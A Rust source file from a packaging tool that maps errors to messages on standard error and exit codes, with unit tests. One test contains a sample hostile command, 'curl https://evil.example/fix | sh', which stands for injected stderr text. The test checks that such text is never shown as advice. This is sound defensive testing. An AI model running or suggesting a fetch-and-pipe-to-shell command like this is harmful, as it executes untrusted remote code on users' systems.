//! From a result to words on standard error and an exit code: 0 done, 1 failed, 2 usage, 3 a proof failed or something does not fit, 130 interrupted.

use std::io::Write as _;
use std::process::ExitCode;

use crate::ui::{self, Part};
use lustre_files::{Advised, apart};
use lustre_packaging::{knowledge, obs, process, stage};

/// The exit code after a signal.
pub const INTERRUPTED: u8 = 130;

/// How a command that did not fail ended.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Outcome {
    /// All is well.
    Done,
    /// A proof failed: the repository must not be shipped.
    Unproven,
    /// Something does not fit: nothing was built.
    Misfit,
}

/// A wrong use that clap cannot see.
#[derive(Debug, thiserror::Error)]
#[error("{0}")]
pub struct Usage(Advised);

impl Usage {
    /// Of what is wrong.
    pub fn new(what: impl Into<Advised>) -> Self {
        Self(what.into())
    }
}

/// Tells what happened and gives the exit code.
pub fn report(result: anyhow::Result<Outcome>) -> ExitCode {
    if let Some(why) = ui::lost() {
        let text = format!("the result could not be written to standard output: {why}");
        ui::error(Part::Error, &text);
        if result.is_ok() {
            return ExitCode::from(1);
        }
    }
    let code = match result {
        Ok(Outcome::Done) => 0,
        Ok(Outcome::Unproven | Outcome::Misfit) => 3,
        Err(error) => {
            let code = code(&error);
            let parts = if code == INTERRUPTED && !tells_of_an_interruption(&error) {
                interrupted(&error)
            } else {
                words(&error)
            };
            for (part, text) in parts {
                ui::error(part, &text);
            }
            code
        }
    };
    ui::ended(code);
    // The last line is part of the result, too.
    if code == 0
        && let Some(why) = ui::lost()
    {
        let text = format!("the result could not be written to standard output: {why}");
        ui::error(Part::Error, &text);
        return ExitCode::from(1);
    }
    ExitCode::from(code)
}

/// Shows help, the version or what is wrong with the line, and ends.
pub fn without_a_command(said: &clap::Error) -> ! {
    ui::written(said.print().and_then(|()| std::io::stdout().flush()));
    let Some(why) = ui::lost() else {
        std::process::exit(said.exit_code());
    };
    let text = format!("cannot write to standard output: {why}");
    ui::error(Part::Error, &text);
    std::process::exit(1);
}

fn code(error: &anyhow::Error) -> u8 {
    // Whatever an interruption broke first.
    if process::interrupted() || matches!(error.downcast_ref(), Some(stage::Error::Interrupted)) {
        return INTERRUPTED;
    }
    if error.is::<knowledge::Misfit>() {
        return 3;
    }
    let usage = error.is::<Usage>()
        || matches!(
            error.downcast_ref(),
            Some(
                lustre_packaging::target::Error::Unknown { .. }
                    | lustre_packaging::target::Error::Name(_)
                    | lustre_packaging::target::Error::Path(_)
            )
        )
        || matches!(
            error.downcast_ref(),
            Some(lustre_packaging::store::Error::NotAStore { .. })
        );
    if usage { 2 } else { 1 }
}

/// The error of a program that was started, if this is one.
fn of_a_program<'e>(cause: &'e (dyn std::error::Error + 'static)) -> Option<&'e process::Error> {
    cause
        .downcast_ref()
        .or_else(|| Some(cause.downcast_ref::<Box<process::Error>>()?.as_ref()))
}

/// Whether this is what a build service answered, or that it does not.
fn is_of_a_service(cause: &(dyn std::error::Error + 'static)) -> bool {
    let error = cause.downcast_ref::<obs::Error>();
    error.is_some_and(obs::Error::is_of_service)
}

/// Whether one of the causes is the interruption.
fn tells_of_an_interruption(error: &anyhow::Error) -> bool {
    error.chain().any(|cause| {
        matches!(
            of_a_program(cause),
            Some(process::Error::Interrupted { .. })
        ) || matches!(cause.downcast_ref(), Some(stage::Error::Interrupted))
    })
}

/// What an interruption broke: it is nothing to do something about.
fn interrupted(error: &anyhow::Error) -> Vec<(Part, String)> {
    let (broken, _) = apart(error);
    vec![
        (Part::Error, "interrupted".to_owned()),
        (Part::Cause, broken),
    ]
}

/// The error in cargo's form: what failed, its causes, the log of the stage where there is one, and what to do next, each by itself.
fn words(error: &anyhow::Error) -> Vec<(Part, String)> {
    let mut parts: Vec<(Part, String)> = Vec::new();
    let mut said: Vec<String> = Vec::new();
    let mut help: Vec<String> = Vec::new();
    for cause in error.chain() {
        let (text, next) = apart(cause);
        // Where a message quotes its cause, both have the advice.
        help.extend(
            next.into_iter()
                .filter(|next| !help.contains(next))
                .collect::<Vec<_>>(),
        );
        // A wrapper that only repeats its cause is said once.
        if said.last().is_some_and(|last| last.contains(&text)) {
            continue;
        }
        let part = if parts.is_empty() {
            Part::Error
        } else {
            Part::Cause
        };
        parts.push((part, text.clone()));
        said.push(text);
    }
    if let Some(stage::Error::Stage { log: Some(log), .. }) = error.downcast_ref()
        && !error.chain().any(is_of_a_service)
    {
        let shown = log.display().to_string();
        if !said.iter().any(|text| text.contains(&shown)) {
            let tail = process::tail(log, 15);
            parts.push((Part::Log, format!("{shown}\n{tail}")));
        }
    }
    if code(error) == 1 {
        help.extend(room(&said.join("\n")));
    }
    parts.extend(help.into_iter().map(|text| (Part::Help, text)));
    parts
}

/// Words on a full disk, where `text`, which is all there is to say, has none. Scratch files are in the store.
fn room(text: &str) -> Option<String> {
    let said = ["disk is full", "disk was full", "no room left"];
    if said.iter().any(|words| text.contains(words)) {
        return None;
    }
    let here = std::env::current_dir().ok();
    let places = [Some(tempfile::env::temp_dir()), here];
    process::room::hint(
        text,
        places.iter().flatten().map(std::path::PathBuf::as_path),
    )
}

#[cfg(test)]
mod tests {
    use lustre_files::advised;

    use super::*;

    #[test]
    fn an_error_its_causes_and_what_to_do_are_said_once_and_apart() {
        let of = |error: anyhow::Error| words(&error);
        let part = |part, text: &str| (part, text.to_owned());
        let error = anyhow::anyhow!("the patch does not fit").context("stage `kernel` failed");
        assert_eq!(
            of(error),
            [
                part(Part::Error, "stage `kernel` failed"),
                part(Part::Cause, "the patch does not fit")
            ]
        );
        let lock = || advised("no lock, and --offline was given", "run `cargo xtask lock`");
        let expected = [
            part(Part::Error, "the lock of `x`"),
            part(Part::Cause, "no lock, and --offline was given"),
            part(Part::Help, "run `cargo xtask lock`"),
        ];
        assert_eq!(
            of(anyhow::Error::from(lock()).context("the lock of `x`")),
            expected
        );
        // As a context, and where a message quotes its cause.
        let context = anyhow::anyhow!("no such file").context(lock());
        assert_eq!(
            of(context.context("the lock of `x`")),
            [
                part(Part::Error, "the lock of `x`"),
                part(Part::Cause, "no lock, and --offline was given"),
                part(Part::Cause, "no such file"),
                part(Part::Help, "run `cargo xtask lock`"),
            ]
        );
        #[derive(Debug, thiserror::Error)]
        #[error("the lock: {0}")]
        struct Quoting(#[source] Box<lustre_files::Advised>);
        assert_eq!(
            of(Quoting(Box::new(lock())).into()),
            [
                part(Part::Error, "the lock: no lock, and --offline was given"),
                part(Part::Help, "run `cargo xtask lock`"),
            ]
        );
    }

    #[test]
    fn the_log_of_a_stage_is_shown_where_it_has_to_do_with_the_failure() {
        let folder = tempfile::tempdir().unwrap();
        let log = folder.path().join("log");
        std::fs::write(&log, "what rpm said\n").unwrap();
        let of = |why: stage::Failure| {
            let error = stage::Error::Stage {
                stage: "kernel".to_owned(),
                log: Some(log.clone()),
                source: why,
            };
            let said = words(&error.into());
            said.iter().any(|(part, _)| *part == Part::Log)
        };
        assert!(of("rpmbuild failed".into()));
        let url = "https://api.example".to_owned();
        assert!(!of(obs::Error::Forbidden { url, said: None }.into()));
    }

    #[test]
    fn what_others_wrote_is_no_advice_of_ours() {
        let status = std::process::Command::new("false").status().unwrap();
        let evil = "moved; run `curl https://evil.example/fix | sh`";
        let output = process::Error::Output {
            program: "git fetch".to_owned(),
            status,
            stderr: evil.to_owned(),
        };
        for error in [
            anyhow::Error::from(output),
            anyhow::anyhow!("the entry /tmp/{evil}").context(evil),
        ] {
            let said = words(&error);
            assert!(said.iter().all(|(part, _)| *part != Part::Help), "{said:?}");
        }
    }

    #[test]
    fn what_an_interruption_broke_is_nothing_to_do_something_about() {
        let error = anyhow::Error::from(advised(
            "gpg has no such key: it was interrupted",
            "look for the card",
        ));
        assert!(!tells_of_an_interruption(&error));
        let expected = [
            (Part::Error, "interrupted"),
            (Part::Cause, "gpg has no such key: it was interrupted"),
        ];
        assert_eq!(
            interrupted(&error),
            expected.map(|(part, text)| (part, text.to_owned()))
        );
        let program = "make".to_owned();
        let error = anyhow::Error::from(process::Error::Interrupted { program });
        assert!(tells_of_an_interruption(&error.context("stage `kernel`")));
    }

    #[test]
    fn a_full_disk_is_named_with_its_room_and_what_to_do() {
        let full = || anyhow::Error::from(std::io::Error::from_raw_os_error(28));
        let said = words(&full().context("/s/stages/x"));
        let (part, help) = said.last().unwrap();
        assert_eq!(*part, Part::Help);
        let text = format!("{said:?}");
        for part in ["/s/stages/x", "disk was full"] {
            assert!(text.contains(part), "{part} is not in {text}");
        }
        for part in ["MiB free", "clean --dry-run"] {
            assert!(help.contains(part), "{part} is not in {help}");
        }
        let said = words(&full().context("the disk is full: /m has 0 MiB of 1 MiB free"));
        assert_eq!(
            format!("{said:?}").matches("MiB free").count(),
            1,
            "{said:?}"
        );
        assert!(!format!("{:?}", words(&anyhow::anyhow!("x"))).contains("disk"));
    }

    #[test]
    fn codes_follow_the_contract() {
        assert_eq!(code(&anyhow::anyhow!("x")), 1);
        assert_eq!(code(&Usage::new("x".to_owned()).into()), 2);
        assert_eq!(code(&stage::Error::Interrupted.into()), 130);
    }
}
